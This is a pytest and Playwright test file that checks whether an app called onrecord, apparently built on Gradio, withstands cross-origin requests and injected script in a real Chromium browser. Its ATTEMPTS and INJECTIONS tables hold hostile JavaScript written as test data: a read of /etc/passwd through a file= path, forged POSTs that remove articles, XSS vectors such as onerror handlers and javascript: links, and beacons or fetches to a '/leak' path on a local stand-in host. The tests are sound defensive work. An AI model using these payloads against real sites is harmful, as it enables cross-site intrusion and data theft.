"""Other pages in the reader's own browser, and text that has come into the page as if it were code, in real Chromium with onrecord
open: what the browser is told keeps them out."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from index import Index
from tests.page_fixtures import browser, reader, served
from tests.scripted import model_server
from tests.web import LocalWeb, local_web
from tests.web import Page as WebPage

__all__ = ["browser", "reader"]  # a fixture is found by its name

pytestmark = pytest.mark.browser

REMOVE = "JSON.stringify({fn_name: 'remove_article', data: 1, component_id: 22, session_hash: 'abc'})"
CALL = "there + '/gradio_api/component_server/'"
LOADED = "node.onload = () => done('loaded'); node.onerror = () => done('');"
# What a page elsewhere may try, `there` being onrecord's address; what it gets to know is given back.
ATTEMPTS = {
    "reads the page": "return (await fetch(there)).text()",
    "reads the page with the reader's cookies": "return (await fetch(there, {credentials: 'include'})).text()",
    "reads the page without asking": "return (await fetch(there, {mode: 'no-cors'})).text()",
    "reads a script": "return (await fetch(there + '/onrecord.js')).text()",
    "reads the configuration": "return (await fetch(there + '/config')).text()",
    "reads a file": "return (await fetch(there + '/gradio_api/file=/etc/passwd')).text()",
    "calls a function": f"""
        const headers = {{'content-type': 'application/json'}};
        return (await fetch({CALL}, {{method: 'POST', headers, body: {REMOVE}}})).text()""",
    "calls a function without asking": f"return (await fetch({CALL}, {{method: 'POST', mode: 'no-cors', body: {REMOVE}}})).text()",
    "sends a beacon": f"navigator.sendBeacon({CALL}, {REMOVE}); return ''",
    "uploads a file": """
        const body = new FormData();
        body.append('files', new Blob(['Bridge opens']), 'a.txt');
        return (await fetch(there + '/gradio_api/upload', {method: 'POST', mode: 'no-cors', body})).text()""",
    "listens to events": """return new Promise((done) => {
        const source = new EventSource(there + '/gradio_api/queue/data?session_hash=abc');
        source.onmessage = (event) => done(event.data);
        source.onerror = () => done(''); })""",
    "opens a websocket": """return new Promise((done) => {
        const socket = new WebSocket(there.replace('http', 'ws') + '/gradio_api/queue/join');
        socket.onopen = () => done('open');
        socket.onerror = () => done(''); })""",
    "runs its script": f"""return new Promise((done) => {{
        const node = document.createElement('script'); {LOADED}
        node.src = there + '/onrecord.js'; document.head.append(node); }})""",
    "shows its icon": f"return new Promise((done) => {{ const node = new Image(); {LOADED} node.src = there + '/favicon.ico'; }})",
    "makes it fetch an address": f"""return new Promise((done) => {{
        const node = new Image(); {LOADED}
        node.src = there + '/gradio_api/file=' + location.origin + '/fetched.png'; }})""",
    "frames it": """return new Promise((done) => {
        const frame = document.createElement('iframe');
        frame.onload = () => done(frame.contentWindow.length ? 'framed' : '');
        frame.src = there; document.body.append(frame); })""",
    "holds its window": """
        const held = open(there);
        await new Promise((go) => setTimeout(go, 1500));
        return held && !held.closed ? 'held' : ''""",
}


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[LocalWeb]:
    with local_web() as web:
        web.pages["/"] = WebPage("<title>elsewhere</title><body>elsewhere")
        script = "<script>document.title = 'broken ' + origin</script>"
        web.pages["/x.png"] = WebPage(script, "text/html")
        yield web


@pytest.fixture(scope="module")
def home(_sample_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return shutil.copytree(_sample_home, tmp_path_factory.mktemp("browser") / "home")


@pytest.fixture(scope="module")
def address(home: Path) -> Iterator[str]:
    with model_server("Kelly said so. [1]") as model, served(home, model) as address:
        yield address


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])  # another port of the same site, and another site
@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_a_page_elsewhere(reader: Page, address: str, home: Path, elsewhere: LocalWeb, attempt: str, name: str) -> None:
    other = reader.context.new_page()
    other.goto(f"http://{name}:{elsewhere.port}/")
    learnt = other.evaluate(f"(there) => (async () => {{ {ATTEMPTS[attempt]} }})().catch(() => '')", address)
    assert learnt == ""
    other.close()
    assert "/fetched.png" not in elsewhere.paths
    index = Index.open(home)
    assert index.catalog.articles.count() == 1 and index.catalog.versions.removed_count() == 0
    index.close()
    assert not [p for p in (home / "uploads").rglob("*") if p.is_file()]


@pytest.mark.parametrize(
    "path", ["file/http://localhost:{port}/x.png", "file=http://localhost:{port}/x.png", "proxy=http://localhost/"]
)
def test_a_page_elsewhere_leads_to_itself_by_way_of_onrecord(
    browser: Browser, address: str, elsewhere: LocalWeb, path: str
) -> None:
    """What would be answered under onrecord's name could do all that its page can."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"http://localhost:{elsewhere.port}/")
    page.evaluate("(there) => { location = there; }", f"{address}/gradio_api/" + path.format(port=elsewhere.port))
    page.wait_for_url(f"{address}/**")
    expect(page.locator("body")).to_contain_text("onrecord answers its own page only")
    assert not page.title().startswith("broken")
    context.close()


RUN = "document.title = `broken`"
# What text might try that has come into the page as HTML, or into a place where a script makes code of it.
INJECTIONS = {
    "a script": f"const node = document.createElement('script'); node.textContent = '{RUN}'; document.body.append(node)",
    "a handler": f"""document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="{RUN}">')""",
    "a handler in a picture": f"""document.body.insertAdjacentHTML('beforeend', '<svg onload="{RUN}"></svg>')""",
    "a frame": f"""document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>')""",
    "a frame elsewhere": "document.body.insertAdjacentHTML('beforeend', `<iframe src='${elsewhere}/leak'></iframe>`)",
    "a link": f"""document.body.insertAdjacentHTML('beforeend', '<a id=bad href="javascript:{RUN}">x</a>'); bad.click()""",
    "an object": f"""document.body.insertAdjacentHTML('beforeend', '<object data="data:text/html,<script>{RUN}</script>">')""",
    "eval": f"(0, eval)('{RUN}')",
    "Function": f"Function('{RUN}')()",
    "the constructor of a function": f"(() => {{}}).constructor('{RUN}')()",
    "the constructor of an async function": f"(async () => {{}}).constructor('{RUN}')()",
    "a timer": f"setTimeout('{RUN}', 0)",
    "a module of data": f"import('data:text/javascript,{RUN}').catch(() => 0)",
    "a module of a blob": f"import(URL.createObjectURL(new Blob(['{RUN}'], {{type: 'text/javascript'}}))).catch(() => 0)",
    "a worker": f"new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => {{ {RUN} }}",
    "a script elsewhere": "document.body.append(Object.assign(document.createElement('script'), {src: elsewhere + '/leak'}))",
    "a style sheet elsewhere": "document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='${elsewhere}/leak'>`)",
    "a picture elsewhere": "new Image().src = elsewhere + '/leak'",
    "a request elsewhere": "fetch(elsewhere + '/leak').catch(() => 0)",
    "a beacon elsewhere": "navigator.sendBeacon(elsewhere + '/leak', 'x')",
    "a form": "document.body.insertAdjacentHTML('beforeend', `<form id=bad action='${elsewhere}/leak'></form>`); bad.submit()",
    "another base": "document.head.insertAdjacentHTML('afterbegin', `<base href='${elsewhere}/'>`)",
}
# functions.js does not even ask the browser; what a frame may not, is told in the frame; of a picture's handler, which it does not
# run either, Chromium 150 does not tell.
NOT_TOLD = ("Function", "a frame", "a handler in a picture")


@pytest.mark.parametrize("injection", INJECTIONS)
def test_text_that_came_into_the_page(browser: Browser, address: str, elsewhere: LocalWeb, injection: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(address)
    expect(page.locator(".or-suggestion").first).to_be_visible(timeout=60_000)
    listen = "window.told = []; document.addEventListener('securitypolicyviolation', (e) => told.push(e.violatedDirective));"
    # Later, for what is called from here may make code of text.
    later = f"setTimeout(() => {{ {INJECTIONS[injection]} }}, 50)"
    page.evaluate(f"(elsewhere) => {{ {listen} {later} }}", f"http://localhost:{elsewhere.port}")
    if injection in NOT_TOLD:
        page.wait_for_timeout(500)
    else:
        page.wait_for_function("() => window.told.length", timeout=10_000)
    assert page.title() in ("onrecord", "") and page.url == f"{address}/"
    assert "/leak" not in elsewhere.paths
    context.close()
